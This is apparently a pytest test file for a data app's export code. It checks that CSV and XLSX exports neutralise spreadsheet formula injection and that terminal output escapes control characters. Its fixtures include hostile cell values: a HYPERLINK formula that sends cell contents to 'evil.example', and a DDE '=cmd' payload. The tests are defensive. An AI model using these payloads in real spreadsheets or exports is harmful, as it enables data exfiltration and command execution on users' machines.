"""No export carries a live formula (issue 15 item 3): CSV from the command line, from the pages'
downloads and from the audit log; XLSX cells stay text. Numbers stay numbers.

The hostile names come from the issue: ``=HYPERLINK(…)``, ``=cmd|' /C calc'!A0``, ``+1+1``,
``@SUM(1+1)``, plus a tab and a carriage return in front.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import sys
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from analytics import export
from tests import clirun
from tests import factories as F

ROOT = Path(__file__).resolve().parents[1]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点此")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "@SUM(1+1)",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def cells(data: bytes) -> list[list[str]]:
    text = data.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            if cell.lstrip(" ")[:1] in DANGEROUS or cell[:1] in DANGEROUS:
                assert export._PLAIN_NUMBER.fullmatch(cell), f"formula cell {cell!r}"


# ----------------------------------------------------------------------------- the rule


@pytest.mark.parametrize(
    "raw,written",
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("  =1+1", "'  =1+1"),
        ("-12.5", "-12.5"),  # a negative number stays a number
        ("+86", "+86"),
        ("-1e-05", "-1e-05"),
        ("张三", "张三"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_csv_safe(raw, written):
    assert export.csv_safe(raw) == written


def test_a_carriage_return_inside_a_cell_does_not_end_the_row():
    rows = cells(export.to_csv_bytes(pd.DataFrame({"a": ["x\r=1+1", "y"], "b": [1, 2]})))
    assert rows == [["a", "b"], ["x\r=1+1", "1"], ["y", "2"]]


def test_frame_to_csv_neutralises_text_and_keeps_numbers():
    df = pd.DataFrame({"head_name": FORMULAS, "gi_z": [-1.5] * len(FORMULAS), "days_since": [-3] * len(FORMULAS)})
    rows = cells(export.to_csv_bytes(df))
    assert rows[0] == ["head_name", "gi_z", "days_since"]
    assert [r[0] for r in rows[1:]] == ["'" + f for f in FORMULAS]
    assert {r[1] for r in rows[1:]} == {"-1.5000"} and {r[2] for r in rows[1:]} == {"-3"}
    assert_no_formula(rows)


def test_xlsx_cells_stay_text():
    df = pd.DataFrame({"head_name": FORMULAS, "gi_z": [-1.5] * len(FORMULAS)})
    wb = openpyxl.load_workbook(io.BytesIO(export.to_xlsx_bytes({"s": df})))
    ws = wb["s"]
    got = [(c.value, c.data_type) for c in ws["A"][1:]]
    assert [t for _, t in got] == ["s"] * len(FORMULAS)
    assert [v for v, _ in got][:6] == FORMULAS[:6]  # (a leading CR comes back as _x000D_)
    assert all(c.value == -1.5 and c.data_type == "n" for c in ws["B"][1:])


def test_monthly_workbook_cells_stay_text(tiny):
    from analytics.monthly import monthly_workbook

    con, _ = tiny
    con.execute("UPDATE areas SET name = ? WHERE code = ?", [FORMULAS[1], F.T1])
    wb = openpyxl.load_workbook(io.BytesIO(monthly_workbook(con, "2026-11", as_of=dt.date(2026, 11, 24))))
    seen = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value == FORMULAS[1]]
    assert seen and all(c.data_type == "s" for c in seen)
    assert not [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]


def test_the_terminal_table_shows_control_characters():
    df = pd.DataFrame({"head_name": ["a\x1b[2Jb", "c\nd"]})
    text = export.to_table_text(df)
    assert "\x1b" not in text and "\\x1b[2Jb" in text and "c\\nd" in text


# ----------------------------------------------------------------------------- the command line


@pytest.fixture()
def hostile(tiny, tmp_path):
    """The tiny world with households named like formulas in grid G111 (never visited: all due)."""
    from ingest.tables import load

    con, path = tiny
    rows = [(f"X{i}", name, "", "", "", F.G111) for i, name in enumerate(FORMULAS)]
    res = load(
        con,
        "households",
        F.write_csv(tmp_path / "x.csv", ["户编号", "户主", "联系电话", "经度", "纬度", "网格编码"], rows),
    )
    assert res.ok
    con.execute("UPDATE households SET created_on = DATE '2025-01-01'")
    stored = dict(con.execute("SELECT code, head_name FROM households WHERE code LIKE 'X%'").fetchall())
    return con, path, stored


def test_cli_report_csv_has_no_formula(hostile):
    """Before: `report unvisited --format csv` wrote =HYPERLINK(…) as a live formula."""
    con, path, stored = hostile
    con.close()
    r = clirun.run(
        [
            sys.executable,
            "manage.py",
            "--db",
            str(path),
            "report",
            "unvisited",
            "--area",
            F.G111,
            "--as-of",
            "2026-11-24",
            "--format",
            "csv",
        ],
        cwd=ROOT,
        capture_output=True,
        timeout=300,
        env={"PATH": "/usr/bin:/bin", "LIANXIN_FAST_HASH": "1"},
    )
    assert r.returncode == 0, r.stderr.decode()
    rows = cells(r.stdout)
    names = {row[0]: row[1] for row in rows[1:]}
    for code, name in stored.items():
        assert names[code] == "'" + name
    assert_no_formula(rows)


def test_cli_negative_numbers_stay_numbers(tiny_ro):
    _, path = tiny_ro
    import manage
    from analytics import reports

    df = reports.hotspots(tiny_ro[0], "village", dt.date(2026, 1, 1), dt.date(2026, 12, 31))
    negative = df[df["gi_z"] < 0]
    assert len(negative)
    rows = cells(export.to_csv_bytes(df))
    z = {row[0]: row[rows[0].index("gi_z")] for row in rows[1:]}
    for code, value in zip(negative["code"], negative["gi_z"]):
        assert z[code] == f"{value:.4f}" and z[code].startswith("-")
    assert manage  # the CLI writes through the same export.to_csv_bytes


# ----------------------------------------------------------------------------- the pages' downloads


def test_coverage_page_csv_download_has_no_formula(hostile, monkeypatch, downloads):
    """Before: the due list's CSV download carried the names as live formulas."""
    _, path, stored = hostile
    F.signed_in_app(monkeypatch, path, "office", today="2026-11-24", page="pages/coverage.py")
    from i18n import t

    base = t("coverage_page.file_due")
    rows = cells(F.download_bytes(downloads, base, ".csv"))
    header = rows[0]
    written = {row[header.index("household_code")]: row[header.index("head_name")] for row in rows[1:]}
    for code, name in stored.items():
        assert written[code] == "'" + name
    assert_no_formula(rows)


def test_audit_csv_has_no_formula_and_keeps_the_time_of_day(tiny, monkeypatch, downloads):
    """Before: a stranger's typed name reached the audit CSV as a formula, and the time of day was lost."""
    from auth import audit, users

    con, path = tiny
    with pytest.raises(users.LoginRefused):  # what a stranger types is not even logged …
        users.login(con, FORMULAS[0], "whatever-password")
    audit.record(con, "admin", "export", detail=FORMULAS[1], now=dt.datetime(2026, 11, 22, 9, 5, 7))
    F.signed_in_app(monkeypatch, path, "admin", page="pages/admin.py")
    rows = cells(F.download_bytes(downloads, "audit-log", ".csv"))
    header = rows[0]
    detail = [row for row in rows[1:] if row[header.index("detail")].endswith(FORMULAS[1])]
    assert detail and detail[0][header.index("detail")] == "'" + FORMULAS[1]  # … and what is logged is text
    assert detail[0][header.index("logged_at")] == "2026-11-22 09:05:07"
    assert "HYPERLINK" not in "".join(",".join(r) for r in rows)
    assert_no_formula(rows)
